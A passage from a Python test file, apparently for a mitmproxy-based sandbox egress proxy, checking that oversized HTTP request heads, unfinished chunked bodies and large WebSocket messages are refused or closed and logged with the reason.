    body = chunked.encode() + (b"1f4\r\n" + b"x" * 500 + b"\r\n") * 4  # no last chunk
    before = len(http_up.received)
    long_head, long_body = _raw(sb, [{**to, "payload": head}, {**to, "payload": body}])
    assert long_head.startswith("HTTP/1.1 431"), long_head[:300]
    assert long_body.startswith("HTTP/1.1 413") and "max_request_bytes=1000" in long_body
    assert len(http_up.received) == before
    records = _records(proxy.audit_path(sb.id), 2)
    assert {r["method"] for r in records} == {"HTTP", "POST"}, records
    assert any(f"request head of more than {MAX_REQUEST_HEAD_BYTES}" in r["blocked"]
               for r in records)  # fmt: skip
    assert any(r["blocked"] == "request body exceeds max_request_bytes=1000" for r in records)


def test_a_websocket_message_past_its_limit_closes_the_websocket(egress_env, sandbox):
    """mitmproxy would gather a WebSocket message's fragments in memory until the last came,
    however many: past the policy's max_request_bytes the proxy closes the WebSocket both ways
    (1009, message too big), and the log says why."""
    proxy = egress_env["proxy"]
    srv = _websocket_upstream([])
    port = srv.getsockname()[1]
    policy = _websocket_policy(egress_env, port, max_request_bytes=1000)
    sb = sandbox(proxy.attachment(policy, mode="transparent"))
    upgrade = _websocket_upgrade(port)
    # A binary message in fragments of 600 bytes, none the last (FIN unset), masked with zeros.
    first, more = bytes([0x02, 0x80 | 126]), bytes([0x00, 0x80 | 126])
    fragment = (600).to_bytes(2, "big") + b"\0" * 4 + b"x" * 600
    message = first + fragment + (more + fragment) * 2
    try:
        (out,) = _raw(sb, [{"host": "ws.test", "port": port, "payload": upgrade + message}])
    finally:
        srv.close()
    head, _, frames = out.partition("\r\n\r\n")
    assert head.startswith("HTTP/1.1 101"), out[:300]
    assert frames[:1] == "\x88" and frames[2:4] == "\x03\xf1", frames[:100]  # close, 1009
    upgrade_rec, closed = _records(proxy.audit_path(sb.id), 2)
    assert upgrade_rec["status"] == 101 and closed["method"] == "WEBSOCKET"
    assert "message exceeds max_request_bytes=1000" in closed["blocked"]


def test_what_comes_while_a_request_waits_is_bounded_too(egress_env, sandbox):
    """Behind a request whose response has not come, mitmproxy holds what the sandbox sends
    (the next request's head, or no head at all) until it reads it: past
    MAX_REQUEST_HEAD_BYTES the connection is closed, and the log says why."""
    from codedojo.egress.limits import MAX_REQUEST_HEAD_BYTES

    http_up, https_up = egress_env["http"], egress_env["https"]
    proxy = egress_env["proxy"]
    silent = socket.create_server(("127.0.0.1", 0))  # accepts, never answers
    port = silent.getsockname()[1]
    policy = upstream_policy(http_up, https_up, allow_hosts=["slow.test"], allow_ports=[port],
                             hosts={"slow.test": "127.0.0.1"},
                             allow_addresses=[f"127.0.0.1:{port}"])  # fmt: skip
    sb = sandbox(proxy.attachment(policy, mode="transparent"))
    payload = f"GET /wait HTTP/1.1\r\nHost: slow.test:{port}\r\n\r\n".encode()
    payload += b"a" * (MAX_REQUEST_HEAD_BYTES + 1000)  # (a head that never ends, behind it)
    try:
        (out,) = _raw(sb, [{"host": "slow.test", "port": port, "payload": payload}])
    finally:
        silent.close()
    assert out == "", out[:300]  # (closed; the request waiting gets no answer)
    waited, connection = _records(proxy.audit_path(sb.id), 2)  # (the request, its connection)
    why = f"more than {MAX_REQUEST_HEAD_BYTES} bytes sent while a request waited for its response"
    assert (waited["path"], waited["status"], waited["error"]) == ("/wait", None, why), waited
    assert connection["blocked"] == f"mitmproxy refused what the sandbox sent: {why}"


def test_a_websocket_message_that_came_whole_past_its_limit_closes_it_and_is_recorded(
        egress_env, sandbox):
    """A message past the limit that arrives in one read, unfragmented, closes the WebSocket
    as one gathered from fragments does; the WebSocket's records name its sandbox however it
    ended."""
    proxy = egress_env["proxy"]
    received: list[str] = []
    srv = _websocket_upstream(received)
    port = srv.getsockname()[1]
    policy = _websocket_policy(egress_env, port, max_request_bytes=1000)
    sb = sandbox(proxy.attachment(policy, mode="transparent"))
    upgrade = _websocket_upgrade(port)
    # one text message of 5,000 bytes, final (FIN set), masked with zeros
    message = bytes([0x81, 0x80 | 126]) + (5000).to_bytes(2, "big") + b"\0" * 4 + b"y" * 5000
    try:
        (out,) = _raw(sb, [{"host": "ws.test", "port": port, "payload": upgrade + message}])
    finally:
        srv.close()
    assert out.partition("\r\n\r\n")[0].startswith("HTTP/1.1 101"), out[:300]
    assert received == []  # (nothing of it went upstream)
    upgrade_rec, closed = _records(proxy.audit_path(sb.id), 2)
    assert upgrade_rec["status"] == 101 and closed["method"] == "WEBSOCKET"
    assert "message exceeds max_request_bytes=1000" in closed["blocked"]
